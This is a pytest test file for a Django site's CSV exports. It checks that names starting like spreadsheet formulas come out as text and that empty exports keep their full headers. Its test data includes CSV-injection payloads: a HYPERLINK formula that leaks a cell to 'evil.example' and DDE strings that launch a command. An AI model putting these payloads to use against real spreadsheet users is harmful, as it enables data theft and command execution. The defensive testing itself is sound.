"""CSV exports open in spreadsheets: a value that starts like a formula is exported as text.

A name starting with =, +, -, @, a tab or a carriage return would run as a formula (or a DDE
command) when the file is opened in Excel or LibreOffice; OWASP's remedy is a leading single quote,
which makes the cell text. Both exports are checked: the member directory's open data
(/members/?format=csv) and a meeting's participant list (?format=csv), with names that anyone can
choose (an applicant names the institution; anyone who signs up names themselves).
"""

import csv
import datetime
import io
import re

import pytest
from django.utils import timezone

from meetings.models import Meeting, Registration
from members.models import Affiliation
from tests.factories import InstitutionFactory, UserFactory, WorkingGroupFactory, coordinator_of

pytestmark = pytest.mark.django_db

FORMULAS = {
    # a name as typed → the cell as exported
    '=HYPERLINK("https://evil.example/?leak="&A1,"詳細")': '\'=HYPERLINK("https://evil.example/?leak="&A1,"詳細")',
    "=cmd|' /C calc'!A0": "'=cmd|' /C calc'!A0",
    "+81-3-1234-5678": "'+81-3-1234-5678",
    "-2+3+cmd|' /C calc'!A0": "'-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0": "'@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1": "'\t=1+1",
    "\r=1+1": "'\r=1+1",
    # the full-width forms a Japanese input method produces, treated the same way as a precaution
    "＝1+1": "'＝1+1",
    "＋1": "'＋1",
    "－1": "'－1",
    "＠SUM(1)": "'＠SUM(1)",
}
PLAIN = {
    # nothing to do: the formula characters are not at the start
    "甲大学": "甲大学",
    "Alpha = Beta University": "Alpha = Beta University",
    "A-1 Institute": "A-1 Institute",
    "'quoted": "'quoted",
}
NAMES = {**FORMULAS, **PLAIN}


def rows(response) -> list[dict]:
    body = b"".join(response.streaming_content) if response.streaming else response.content
    text = body.decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(text[1:], newline="")))


def test_directory_csv_exports_formula_names_as_text(client):
    for n, name in enumerate(NAMES):
        InstitutionFactory(slug=f"univ-{n}", name_en=name, name_ja=name)

    response = client.get("/en/members/?format=csv")

    assert response.status_code == 200
    exported = {row["slug"]: (row["name_en"], row["name_ja"]) for row in rows(response)}
    assert exported == {f"univ-{n}": (cell, cell) for n, cell in enumerate(NAMES.values())}


def test_directory_json_keeps_names_as_they_are(client):
    """JSON is read by programs, not spreadsheets: the names are exported unchanged."""
    for n, name in enumerate(NAMES):
        InstitutionFactory(slug=f"univ-{n}", name_en=name)

    results = client.get("/en/members/?format=json").json()["results"]

    assert {r["slug"]: r["name_en"] for r in results} == {f"univ-{n}": name for n, name in enumerate(NAMES)}


def test_participants_csv_exports_formula_names_as_text(client):
    coordinating = InstitutionFactory(slug="univ-c")
    group = WorkingGroupFactory(coordinators=[coordinating])
    starts = timezone.now() + datetime.timedelta(days=10)
    meeting = Meeting.objects.create(kind=Meeting.Kind.GROUP, group=group, title_ja="第1回会合", starts_at=starts,
                                     ends_at=starts + datetime.timedelta(hours=2), visibility=Meeting.Visibility.PUBLIC)
    institution = InstitutionFactory(slug="formula-univ", name_ja="=1+1大学", name_en="=1+1 University")
    expected = {}
    for n, name in enumerate(NAMES):
        user = UserFactory(email=f"p{n}@example.org", name=name)
        Affiliation.objects.create(user=user, institution=institution, status=Affiliation.Status.APPROVED)
        Registration.objects.create(meeting=meeting, user=user, mode=Registration.Mode.ONLINE)
        expected[f"p{n}@example.org"] = (NAMES[name], "'=1+1 University")
    client.force_login(coordinator_of(group, coordinating))

    response = client.get(f"/en/meetings/{meeting.pk}/participants/?format=csv")

    assert response.status_code == 200
    exported = {row["E-mail address"]: (row["Name"], row["Institution"]) for row in rows(response)}
    assert exported == expected


def test_participants_csv_names_only_the_institutions_a_person_is_approved_at(client):
    """The Institution column is where a person works now: an affiliation waiting for a decision,
    refused or ended is not named, whatever else the person has (and an institution one left and
    rejoined is named once)."""
    coordinating = InstitutionFactory(slug="univ-c", name_en="Coordinating University")
    group = WorkingGroupFactory(coordinators=[coordinating])
    starts = timezone.now() + datetime.timedelta(days=10)
    meeting = Meeting.objects.create(kind=Meeting.Kind.GROUP, group=group, title_ja="第1回会合", starts_at=starts,
                                     ends_at=starts + datetime.timedelta(hours=2), visibility=Meeting.Visibility.PUBLIC)
    alpha, beta, gamma, delta, epsilon = (InstitutionFactory(slug=f"univ-{s}", name_en=f"{s.title()} University")
                                          for s in ("alpha", "beta", "gamma", "delta", "epsilon"))
    S = Affiliation.Status
    people = {
        # e-mail: (affiliations as (institution, status), the Institution cell expected)
        "every@example.org": ([(alpha, S.APPROVED), (beta, S.PENDING), (gamma, S.REFUSED), (delta, S.ENDED)],
                              {"Alpha University"}),
        "two@example.org": ([(alpha, S.APPROVED), (epsilon, S.APPROVED), (beta, S.REFUSED)],
                            {"Alpha University", "Epsilon University"}),
        "rejoined@example.org": ([(gamma, S.ENDED), (gamma, S.APPROVED)], {"Gamma University"}),
        "pending@example.org": ([(beta, S.PENDING)], set()),
        "refused@example.org": ([(gamma, S.REFUSED)], set()),
        "ended@example.org": ([(delta, S.ENDED)], set()),
        "none@example.org": ([], set()),
    }
    for email, (affiliations, _) in people.items():
        user = UserFactory(email=email)
        for institution, status in affiliations:
            Affiliation.objects.create(user=user, institution=institution, status=status)
        Registration.objects.create(meeting=meeting, user=user, mode=Registration.Mode.ONLINE)
    client.force_login(coordinator_of(group, coordinating))

    response = client.get(f"/en/meetings/{meeting.pk}/participants/?format=csv")

    assert response.status_code == 200
    exported = {row["E-mail address"]: row["Institution"] for row in rows(response)}
    assert {email: set(filter(None, cell.split("; "))) for email, cell in exported.items()} == {
        email: expected for email, (_, expected) in people.items()}
    assert exported["rejoined@example.org"] == "Gamma University"


# ---------------------------------------------------------------------------------------------
# Needs and expertise: each title in both languages, the original named (docs/open-data.md)
# ---------------------------------------------------------------------------------------------


@pytest.fixture
def texts_in_two_languages(db):
    """A need written in Japanese with an English title, one written in English with none, and an
    expertise entry written in English whose Japanese title starts like a formula."""
    from tests.cooperation.conftest import make_expertise, make_need

    group = WorkingGroupFactory(slug="regional")
    staff = UserFactory(email="staff@univ-b.example")
    institution = InstitutionFactory(slug="univ-b", name_ja="乙大学", name_en="Beta University")
    Affiliation.objects.create(user=staff, institution=institution, status=Affiliation.Status.APPROVED)
    return {
        "needs": [
            make_need(title="公用車のEV化の効果検証", themes=[group], language="ja",
                      title_translated="Measuring the effect of electric official cars"),
            make_need(title="Heat pumps for the town pool", themes=[group], language="en"),
        ],
        "expertise": [
            make_expertise(institution=institution, author=staff, title="Estimating forest carbon sinks",
                           themes=[group], language="en", title_translated="=森林吸収量の推計"),
        ],
    }


# what each row of the fixture exports: (title, language, title_ja, title_en), CSV cells as written
EXPORTED_TITLES = {
    "needs": [
        ("Heat pumps for the town pool", "en", "", "Heat pumps for the town pool"),
        ("公用車のEV化の効果検証", "ja", "公用車のEV化の効果検証", "Measuring the effect of electric official cars"),
    ],
    "expertise": [("Estimating forest carbon sinks", "en", "'=森林吸収量の推計", "Estimating forest carbon sinks")],
}


@pytest.mark.parametrize("lang", ["ja", "en"])
@pytest.mark.parametrize("table", ["needs", "expertise"])
def test_needs_and_expertise_csv_give_each_title_in_both_languages(client, texts_in_two_languages, table, lang):
    """The same cells whatever the language of the address: ``title`` as written, ``language`` the
    one it was written in, ``title_ja`` and ``title_en`` (the missing translation an empty cell); a
    translated title that starts like a formula is text, as any other cell."""
    response = client.get(f"/{lang}/{table}/?format=csv")

    assert response.status_code == 200
    exported = sorted((r["title"], r["language"], r["title_ja"], r["title_en"]) for r in rows(response))
    assert exported == sorted(EXPORTED_TITLES[table])


@pytest.mark.parametrize("table", ["needs", "expertise"])
def test_needs_and_expertise_json_give_each_title_in_both_languages(client, texts_in_two_languages, table):
    results = client.get(f"/en/{table}/?format=json").json()["results"]

    exported = sorted((r["title"], r["language"], r["title_ja"], r["title_en"]) for r in results)
    assert exported == sorted(tuple(cell.removeprefix("'") for cell in row) for row in EXPORTED_TITLES[table])
    assert {r["id"] for r in results} == {row.pk for row in texts_in_two_languages[table]}


# ---------------------------------------------------------------------------------------------
# Zero rows: every CSV export writes its full documented header (docs/open-data.md)
# ---------------------------------------------------------------------------------------------

# URL name -> (its table in docs/open-data.md, the export's address with no row to write, who asks).
EMPTY_EXPORTS = {
    "members:directory": ("members", lambda w, lang: f"/{lang}/members/?q=nowhere-at-all&format=csv", None),
    "cooperation:partner-list": ("partners", lambda w, lang: f"/{lang}/partners/?format=csv", None),
    "cooperation:need-list": ("needs", lambda w, lang: f"/{lang}/needs/?format=csv", None),
    "cooperation:expertise-list": ("expertise", lambda w, lang: f"/{lang}/expertise/?format=csv", "member"),
    "progress:progress": ("progress", lambda w, lang: f"/{lang}/progress/?format=csv", None),
    "progress:institution-progress": (
        "institution-progress", lambda w, lang: f"/{lang}/members/{w.institution.slug}/progress/?format=csv",
        "member"),
    "meetings:participants": ("participants", lambda w, lang: f"/{lang}/meetings/{w.meeting.pk}/participants/"
                              "?format=csv", "coordinator"),
}
NOT_DATA = {
    "progress:report-upload": "?template=1 is the upload's example file (a filled-in year), not an export of rows",
    "working_groups:people-import-template": "the people import's example file (a header and two example rows), "
                                             "not an export of rows",
}


@pytest.fixture
def empty_world(db):
    """An institution with a member and no report, a group meeting nobody registered for."""
    from types import SimpleNamespace

    institution = InstitutionFactory(slug="univ-c")
    group = WorkingGroupFactory(coordinators=[institution])
    starts = timezone.now() + datetime.timedelta(days=10)
    meeting = Meeting.objects.create(kind=Meeting.Kind.GROUP, group=group, title_ja="第1回会合", starts_at=starts,
                                     ends_at=starts + datetime.timedelta(hours=2), visibility=Meeting.Visibility.PUBLIC)
    coordinator = coordinator_of(group, institution)
    return SimpleNamespace(institution=institution, meeting=meeting, coordinator=coordinator, member=coordinator)


def csv_exports() -> set[str]:
    """The URL names whose view writes CSV (found from the URL map, as the query-count guard does)."""
    from tests.coalition.test_query_counts import _answers_get, _project_source, project_patterns

    return {name for name, _, callback in project_patterns()
            if _answers_get(callback)
            and re.search(r"[\"']csv[\"']|text/csv|\b_?csv\(|csv\.(Dict)?[Ww]riter", _project_source(callback))}


def test_every_csv_export_has_a_zero_row_case():
    assert sorted(csv_exports() - set(EMPTY_EXPORTS) - set(NOT_DATA)) == []
    assert sorted((set(EMPTY_EXPORTS) | set(NOT_DATA)) - csv_exports()) == []


@pytest.mark.parametrize("lang", ["ja", "en"])
@pytest.mark.parametrize("name", sorted(EMPTY_EXPORTS))
def test_a_csv_export_with_no_row_has_its_full_header(client, empty_world, name, lang):
    """A program reading an empty export still finds every column it reads when there are rows
    (an empty cooperation CSV had only an ``id`` header)."""
    from tests.output_clients import documented_columns, read_csv

    table, path, viewer = EMPTY_EXPORTS[name]
    if viewer:
        client.force_login(getattr(empty_world, viewer))
    response = client.get(path(empty_world, lang))

    assert response.status_code == 200
    header, rows = read_csv(b"".join(response.streaming_content) if response.streaming else response.content)
    assert rows == []
    documented = documented_columns(table)
    expected = [row[0 if lang == "ja" else 1] for row in documented] if table == "participants" else [
        row[0] for row in documented]
    assert header == expected
